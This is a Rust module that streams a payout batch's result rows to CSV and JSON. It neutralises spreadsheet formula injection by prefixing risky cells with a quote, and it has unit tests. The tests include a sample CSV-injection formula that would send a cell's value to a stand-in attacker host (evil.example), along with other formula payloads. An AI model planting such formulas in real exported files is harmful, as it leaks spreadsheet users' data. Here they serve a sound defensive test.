//! The result files: every report row as CSV and as JSON, written as a stream so a batch of a
//! million rows never sits in memory.
//!
//! - CSV: RFC 4180, a header row of [`COLUMNS`], LF line ends, empty cells for what does not
//!   apply. No preamble: the file is meant for spreadsheets and `csv` libraries. It is opened in
//!   spreadsheets, so no cell is a live formula: a cell that begins with `=`, `+`, `-`, `@`, tab or
//!   carriage return and is not a number is written with a leading `'` ([`formula_safe`]; the
//!   OWASP advice against CSV injection). Free text such as `reference` comes from whoever made
//!   the batch file.
//! - JSON: `{"batch": {...}, "rows": [...]}`, one row object per line; `line` and `attempts` are
//!   numbers, everything else is text (exactly as given, no `'`), and empty cells are `null`.
//!
//! These functions write only to the writer they are given; which file that is, and its
//! atomicity, is the caller's business (see `write_batch_reports`).

use std::io::{self, Write};

use serde::Serialize;
use serde::ser::SerializeMap;

use super::row::{
    ATTEMPTS_COLUMN, COLUMNS, LINE_COLUMN, LinkedBatch, Links, ORIGINAL_COLUMN, RETRIED_AS_COLUMN, ReportRow,
    TASK_COLUMNS,
};
use crate::model::record::BatchRecord;
use crate::util::time::rfc3339_ms;

/// Writes the result CSV of `rows` to `out`. The CSV has no batch header (it would break CSV
/// readers); `batch` is taken for symmetry with [`result_json`].
pub fn result_csv(
    batch: &BatchRecord,
    rows: impl IntoIterator<Item = ReportRow>,
    out: &mut dyn Write,
) -> io::Result<()> {
    let mut csv = CsvRows::begin_for(batch, out)?;
    for row in rows {
        csv.row(&row)?;
    }
    csv.finish()
}

/// Writes the result JSON of `batch` and its `rows` to `out`.
pub fn result_json(
    batch: &BatchRecord,
    rows: impl IntoIterator<Item = ReportRow>,
    out: &mut dyn Write,
) -> io::Result<()> {
    let mut json = JsonRows::begin(batch, out)?;
    for row in rows {
        json.row(&row)?;
    }
    json.finish()
}

/// The columns a batch's result files have after [`COLUMNS`]: none for a batch paid by single
/// creates that has nothing to do with a retry, so its files are what they always were.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Extra {
    /// The batch went through CCPayment's batch withdrawals: [`TASK_COLUMNS`].
    pub tasks: bool,
    /// Its orders retry orders of earlier batches: [`ORIGINAL_COLUMN`].
    pub original: bool,
    /// Some of its orders were retried: [`RETRIED_AS_COLUMN`].
    pub retried: bool,
}

impl Extra {
    /// The columns of `batch`'s files, linked to other batches as `links` says.
    pub fn of(batch: &BatchRecord, links: &Links) -> Extra {
        Extra {
            tasks: batch.bundles.is_some(),
            original: batch.retry_of.is_some(),
            retried: !links.retried_as.is_empty(),
        }
    }

    /// The extra column names, in order.
    pub fn names(self) -> impl Iterator<Item = &'static str> {
        let tasks = TASK_COLUMNS.iter().copied().filter(move |_| self.tasks);
        let original = std::iter::once(ORIGINAL_COLUMN).filter(move |_| self.original);
        let retried = std::iter::once(RETRIED_AS_COLUMN).filter(move |_| self.retried);
        tasks.chain(original).chain(retried)
    }

    /// A row's cells for the extra columns, in [`Extra::names`]' order.
    fn cells(self, row: &ReportRow) -> impl Iterator<Item = &str> {
        let tasks = row.task_cells().into_iter().filter(move |_| self.tasks);
        let original = std::iter::once(row.original_order_id.as_str()).filter(move |_| self.original);
        let retried = std::iter::once(row.retried_as.as_str()).filter(move |_| self.retried);
        tasks.chain(original).chain(retried)
    }
}

/// The result CSV, a row at a time.
pub struct CsvRows<W: Write> {
    csv: csv::Writer<W>,
    line: String,
    attempts: String,
    /// What follows [`COLUMNS`].
    extra: Extra,
}

impl<W: Write> CsvRows<W> {
    /// Starts the file with its header row.
    pub fn begin(out: W) -> io::Result<CsvRows<W>> {
        Self::start(out, Extra::default())
    }

    /// Starts the file of `batch`: a batch paid through CCPayment's batch withdrawals has the
    /// [`TASK_COLUMNS`] after the usual ones, a batch of retries the [`ORIGINAL_COLUMN`]; any
    /// other has exactly [`COLUMNS`].
    pub fn begin_for(batch: &BatchRecord, out: W) -> io::Result<CsvRows<W>> {
        Self::start(out, Extra::of(batch, &Links::default()))
    }

    /// [`CsvRows::begin_for`], with the [`RETRIED_AS_COLUMN`] last when `links` says some of
    /// the batch's orders were retried.
    pub fn begin_linked(batch: &BatchRecord, links: &Links, out: W) -> io::Result<CsvRows<W>> {
        Self::start(out, Extra::of(batch, links))
    }

    fn start(out: W, extra: Extra) -> io::Result<CsvRows<W>> {
        let mut csv = csv::WriterBuilder::new()
            .terminator(csv::Terminator::Any(b'\n'))
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(out);
        csv.write_record(COLUMNS.iter().copied().chain(extra.names()))
            .map_err(csv_error)?;
        Ok(CsvRows {
            csv,
            line: String::new(),
            attempts: String::new(),
            extra,
        })
    }

    pub fn row(&mut self, row: &ReportRow) -> io::Result<()> {
        use std::fmt::Write as _;
        self.line.clear();
        self.attempts.clear();
        // Writing to a String cannot fail.
        let _ = write!(self.line, "{}", row.line);
        if let Some(n) = row.attempts {
            let _ = write!(self.attempts, "{n}");
        }
        let cells = row.cells(&self.line, &self.attempts).map(|c| SafeCell(formula_safe(c)));
        let extra = self.extra.cells(row).map(|c| SafeCell(formula_safe(c)));
        self.csv.write_record(cells.into_iter().chain(extra)).map_err(csv_error)
    }

    /// Flushes everything to the underlying writer.
    pub fn finish(mut self) -> io::Result<()> {
        self.csv.flush()
    }
}

/// A CSV cell a spreadsheet will not run: one that begins with `=`, `+`, `-`, `@`, tab or carriage
/// return gets a leading `'`, unless it is a number (`-1.5` stays a number).
pub fn formula_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_number(cell) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A cell after [`formula_safe`], as the CSV writer takes it (no copy of a safe cell).
struct SafeCell<'a>(std::borrow::Cow<'a, str>);

impl AsRef<[u8]> for SafeCell<'_> {
    fn as_ref(&self) -> &[u8] {
        self.0.as_bytes()
    }
}

/// A plain decimal number: an optional sign, digits, at most one point with digits around it.
fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (whole, frac) = digits.split_once('.').unwrap_or((digits, ""));
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && (digits.len() == whole.len() || (!frac.is_empty() && frac.bytes().all(|b| b.is_ascii_digit())))
}

/// Keeps the I/O error's kind when there is one.
fn csv_error(e: csv::Error) -> io::Error {
    match e.into_kind() {
        csv::ErrorKind::Io(e) => e,
        other => io::Error::other(format!("writing CSV: {other:?}")),
    }
}

/// The result JSON, a row at a time.
pub struct JsonRows<W: Write> {
    out: W,
    rows: u64,
    extra: Extra,
}

impl<W: Write> JsonRows<W> {
    /// Starts the document: the batch object and the opening of the rows array.
    pub fn begin(batch: &BatchRecord, out: W) -> io::Result<JsonRows<W>> {
        Self::begin_linked(batch, &Links::default(), out)
    }

    /// [`JsonRows::begin`] for a batch linked to others by retries as `links` says: the batch
    /// object names them, and rows carry `original_order_id` and `retried_as` as the CSV does.
    pub fn begin_linked(batch: &BatchRecord, links: &Links, mut out: W) -> io::Result<JsonRows<W>> {
        out.write_all(b"{\"batch\":")?;
        serde_json::to_writer(&mut out, &BatchHeader::linked(batch, links))?;
        out.write_all(b",\n\"rows\":[")?;
        Ok(JsonRows {
            out,
            rows: 0,
            extra: Extra::of(batch, links),
        })
    }

    pub fn row(&mut self, row: &ReportRow) -> io::Result<()> {
        // One row per line: the file stays greppable and diffable.
        self.out.write_all(if self.rows == 0 { b"\n" } else { b",\n" })?;
        serde_json::to_writer(&mut self.out, &JsonRow(row, self.extra))?;
        self.rows += 1;
        Ok(())
    }

    /// Closes the array and the document and flushes.
    pub fn finish(mut self) -> io::Result<()> {
        self.out.write_all(b"\n]}\n")?;
        self.out.flush()
    }
}

/// A row as a JSON object: the CSV's columns, in the same order, with the same names.
struct JsonRow<'a>(&'a ReportRow, Extra);

impl Serialize for JsonRow<'_> {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let (row, extra) = (self.0, self.1);
        let mut map = serializer.serialize_map(Some(COLUMNS.len()))?;
        // The same cells as the CSV, so the two files cannot disagree; the numeric columns are
        // replaced by their numbers.
        for (i, (name, cell)) in COLUMNS.iter().zip(row.cells("", "")).enumerate() {
            match i {
                LINE_COLUMN => map.serialize_entry(name, &row.line)?,
                ATTEMPTS_COLUMN => map.serialize_entry(name, &row.attempts)?,
                _ => map.serialize_entry(name, &Some(cell).filter(|c| !c.is_empty()))?,
            }
        }
        // A task of a batch withdrawal says which, in the CSV's extra columns' names.
        if row.task.is_some() {
            for (name, cell) in TASK_COLUMNS.iter().zip(row.task_cells()) {
                map.serialize_entry(name, &Some(cell).filter(|c| !c.is_empty()))?;
            }
        }
        // The retry columns as the CSV has them: on every row of a batch that has them.
        let retry = Extra { tasks: false, ..extra };
        for (name, cell) in retry.names().zip(retry.cells(row)) {
            map.serialize_entry(name, &Some(cell).filter(|c| !c.is_empty()))?;
        }
        map.end()
    }
}

/// Who the rows belong to: the batch's identity in every JSON report.
#[derive(Debug, Serialize)]
pub struct BatchHeader<'a> {
    pub batch_id: &'a str,
    pub name: &'a str,
    pub source: &'a str,
    pub format: &'a str,
    pub api: &'a str,
    pub plan_digest: &'a str,
    pub created_at: String,
    /// Rows in the file.
    pub rows: u64,
    /// Accepted orders.
    pub orders: u32,
    /// Who signed the batch file.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub signer: Option<&'a crate::model::record::BatchSigner>,
    /// The plan's approval: needed, given by whom.
    #[serde(skip_serializing_if = "is_not_needed")]
    pub approval: &'a crate::model::record::Approval,
    /// The rows held for the recipient review, and its approval.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub recipient_review: Option<&'a crate::model::record::RecipientPart>,
    /// The batches whose orders this batch retries.
    #[serde(skip_serializing_if = "<[_]>::is_empty")]
    pub retry_of: &'a [LinkedBatch],
    /// The batches that retry orders of this one.
    #[serde(skip_serializing_if = "<[_]>::is_empty")]
    pub retried_by: &'a [LinkedBatch],
}

fn is_not_needed(approval: &&crate::model::record::Approval) -> bool {
    **approval == crate::model::record::Approval::NotNeeded
}

impl<'a> BatchHeader<'a> {
    pub fn new(batch: &'a BatchRecord) -> BatchHeader<'a> {
        BatchHeader::linked(batch, &NO_LINKS)
    }

    /// The header of a batch linked to others by retries as `links` says.
    pub fn linked(batch: &'a BatchRecord, links: &'a Links) -> BatchHeader<'a> {
        BatchHeader {
            batch_id: &batch.batch_id,
            name: &batch.name,
            source: &batch.source,
            format: &batch.format,
            api: batch.api.as_str(),
            plan_digest: &batch.plan_digest,
            created_at: rfc3339_ms(batch.created_ms),
            rows: batch.rows,
            orders: batch.orders,
            signer: batch.signer.as_ref(),
            approval: &batch.approval,
            recipient_review: batch.recipients.as_ref(),
            retry_of: &links.retry_of,
            retried_by: &links.retried_by,
        }
    }
}

/// The links of a batch that has nothing to do with retries.
static NO_LINKS: Links = Links {
    retry_of: Vec::new(),
    retried_by: Vec::new(),
    retried_as: std::collections::BTreeMap::new(),
};

#[cfg(test)]
mod tests {
    use std::collections::BTreeMap;

    use super::*;
    use crate::report::fixture;
    use crate::report::row::report_rows;

    fn rows() -> Vec<ReportRow> {
        report_rows(&fixture::batch(), fixture::orders(), &fixture::explorers()).collect()
    }

    fn csv_text() -> String {
        let mut out = Vec::new();
        result_csv(&fixture::batch(), rows(), &mut out).unwrap();
        String::from_utf8(out).unwrap()
    }

    /// The CSV read back as maps from column name to cell.
    fn csv_records() -> Vec<BTreeMap<String, String>> {
        let text = csv_text();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
        assert_eq!(header, COLUMNS);
        reader
            .records()
            .map(|r| {
                header
                    .iter()
                    .cloned()
                    .zip(r.unwrap().iter().map(str::to_owned))
                    .collect()
            })
            .collect()
    }

    #[test]
    fn formula_cells_are_defused_and_numbers_are_not() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("-1.5", "-1.5"),
            ("+3", "+3"),
            ("-0", "-0"),
            ("12.50", "12.50"),
            ("alice = bob", "alice = bob"),
            ("", ""),
        ] {
            assert_eq!(formula_safe(cell), written, "{cell:?}");
        }
    }

    /// Issue 14 (5): a reference that is a spreadsheet formula arrives in the result CSV as text,
    /// and exactly as given in the JSON.
    #[test]
    fn the_result_csv_carries_no_live_formula_and_the_json_the_exact_text() {
        let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        let mut orders = fixture::orders();
        orders[0].input.reference = evil.to_owned();
        orders[0].input.memo = "@cmd".to_owned();
        let rows: Vec<ReportRow> = report_rows(&fixture::batch(), orders, &fixture::explorers()).collect();
        let mut csv_out = Vec::new();
        result_csv(&fixture::batch(), rows.clone(), &mut csv_out).unwrap();
        let text = String::from_utf8(csv_out).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
                    "a live formula: {cell:?}"
                );
                assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
            }
        }
        assert!(text.contains(&format!("\"'{}\"", evil.replace('"', "\"\""))), "{text}");
        assert!(text.contains(",'@cmd,"), "{text}");
        let mut json_out = Vec::new();
        result_json(&fixture::batch(), rows, &mut json_out).unwrap();
        let json = String::from_utf8(json_out).unwrap();
        assert!(json.contains(&serde_json::to_string(evil).unwrap()), "{json}");
        assert!(json.contains("\"@cmd\""), "{json}");
    }

    #[test]
    fn the_csv_parses_back_to_the_expected_cells() {
        let records = csv_records();
        assert_eq!(records.len(), 9);
        let lines: Vec<&str> = records.iter().map(|r| r["line"].as_str()).collect();
        assert_eq!(lines, ["2", "3", "4", "5", "6", "7", "8", "9", "10"]);

        let expect = |r: &BTreeMap<String, String>, cells: &[(&str, &str)]| {
            for (column, value) in cells {
                assert_eq!(r[*column], *value, "line {} column {column}", r["line"]);
            }
        };
        expect(
            &records[0],
            &[
                ("order_id", "pay-002"),
                ("recipient", "addr-2"),
                ("coin", "USDT"),
                ("chain", "POLYGON"),
                ("amount", "000.10"),
                ("memo", ""),
                ("status", "success"),
                ("amount_sent", "0.1"),
                ("record_id", "rec-2"),
                ("tx_id", "0xabc"),
                ("explorer_url", "https://polygonscan.com/tx/0xabc"),
                ("fee", "0.000123"),
                ("fee_coin", "MATIC"),
                ("error_code", ""),
                ("error_message", ""),
                ("attempts", "1"),
                ("created_at", "2026-11-21T10:32:40.123Z"),
                ("first_sent_at", "2026-11-21T10:32:41.000Z"),
                ("final_at", "2026-11-21T10:33:40.123Z"),
            ],
        );
        expect(
            &records[1],
            &[
                ("order_id", "pay-003"),
                ("recipient", ""),
                ("amount", ""),
                ("status", "refused"),
                (
                    "error_message",
                    "amount: amount has a sign; write it without + or -; chain: unknown chain XYZ",
                ),
                ("attempts", ""),
                ("created_at", ""),
            ],
        );
        expect(
            &records[2],
            &[
                ("chain", "trx"),
                ("explorer_url", "https://tronscan.org/#/transaction/trx4"),
                ("fee", "1"),
            ],
        );
        expect(
            &records[3],
            &[
                ("status", "failed"),
                ("error_message", "insufficient energy"),
                ("tx_id", ""),
                ("explorer_url", ""),
            ],
        );
        expect(
            &records[4],
            &[
                ("status", "duplicate"),
                ("error_message", "already in batch 0123456789ab"),
            ],
        );
        expect(
            &records[5],
            &[
                ("coin", "1280"),
                ("chain", "CWALLET"),
                ("status", "rejected"),
                ("error_code", "14007"),
                ("error_message", "Cwallet user does not exist"),
                ("record_id", ""),
            ],
        );
        expect(
            &records[6],
            &[
                ("status", "submitted"),
                ("amount_sent", "0.000000000000000001"),
                ("attempts", "2"),
                ("error_code", "11004"),
                ("final_at", ""),
            ],
        );
        expect(
            &records[7],
            &[
                ("amount", "0.20"),
                ("amount_sent", "0.2"),
                ("merchant_pays_fee", "false"),
                ("reference", "June, \"bonus\""),
            ],
        );
        expect(
            &records[8],
            &[
                ("order_id", ""),
                ("status", "refused"),
                ("error_message", "order_id: missing"),
            ],
        );
    }

    #[test]
    fn the_csv_is_lf_terminated_and_quotes_only_when_needed() {
        let text = csv_text();
        assert!(!text.contains('\r'));
        assert!(text.starts_with("line,order_id,recipient,coin,chain,amount,memo,"));
        assert!(text.contains(r#","June, ""bonus""","#), "{text}");
        assert!(text.ends_with('\n'));
    }

    #[test]
    fn the_json_has_the_batch_numbers_and_nulls_for_empty_cells() {
        let batch = fixture::batch();
        let mut out = Vec::new();
        result_json(&batch, rows(), &mut out).unwrap();
        let json: serde_json::Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(json["batch"]["batch_id"], fixture::BATCH_ID);
        assert_eq!(json["batch"]["name"], "payroll-abababababab");
        assert_eq!(json["batch"]["created_at"], "2026-11-21T10:32:40.123Z");
        assert_eq!(
            (json["batch"]["rows"].as_u64(), json["batch"]["orders"].as_u64()),
            (Some(9), Some(6))
        );

        let rows = json["rows"].as_array().unwrap();
        assert_eq!(rows.len(), 9);
        let first = rows[0].as_object().unwrap();
        let mut keys: Vec<&str> = first.keys().map(String::as_str).collect();
        let mut columns = COLUMNS.to_vec();
        // Compared as sets: whether serde_json's map keeps insertion order depends on features.
        keys.sort_unstable();
        columns.sort_unstable();
        assert_eq!(keys, columns);
        assert_eq!(first["line"], 2);
        assert_eq!(first["attempts"], 1);
        assert_eq!(first["amount_sent"], "0.1");
        assert_eq!(first["explorer_url"], "https://polygonscan.com/tx/0xabc");
        assert!(first["memo"].is_null() && first["error_code"].is_null());

        let refused = &rows[1];
        assert_eq!(
            (refused["line"].as_u64(), refused["status"].as_str()),
            (Some(3), Some("refused"))
        );
        assert!(refused["attempts"].is_null() && refused["recipient"].is_null() && refused["created_at"].is_null());
        assert_eq!(rows[5]["error_code"], "14007");
        assert_eq!(rows[7]["reference"], "June, \"bonus\"");
        assert!(rows[8]["order_id"].is_null());
    }

    #[test]
    fn the_json_keeps_column_order_and_puts_one_row_per_line() {
        let mut out = Vec::new();
        result_json(&fixture::batch(), rows(), &mut out).unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 2 + 9 + 1);
        assert!(lines[0].starts_with(r#"{"batch":{"batch_id":"abab"#), "{}", lines[0]);
        assert_eq!(lines[1], r#""rows":["#);
        let first = lines[2];
        assert!(
            first.starts_with(r#"{"line":2,"order_id":"pay-002","recipient":"addr-2","#),
            "{first}"
        );
        assert!(first.ends_with(r#""final_at":"2026-11-21T10:33:40.123Z"},"#), "{first}");
        let last = lines[10];
        assert!(last.starts_with(r#"{"line":10,"#) && last.ends_with('}'), "{last}");
        assert_eq!(lines[11], "]}");
    }

    #[test]
    fn an_empty_batch_gives_a_header_only_csv_and_an_empty_rows_array() {
        let mut batch = fixture::batch();
        batch.refused.clear();
        let mut csv = Vec::new();
        result_csv(&batch, std::iter::empty(), &mut csv).unwrap();
        assert_eq!(String::from_utf8(csv).unwrap(), format!("{}\n", COLUMNS.join(",")));
        let mut json = Vec::new();
        result_json(&batch, std::iter::empty(), &mut json).unwrap();
        let value: serde_json::Value = serde_json::from_slice(&json).unwrap();
        assert_eq!(value["rows"], serde_json::json!([]));
    }
}
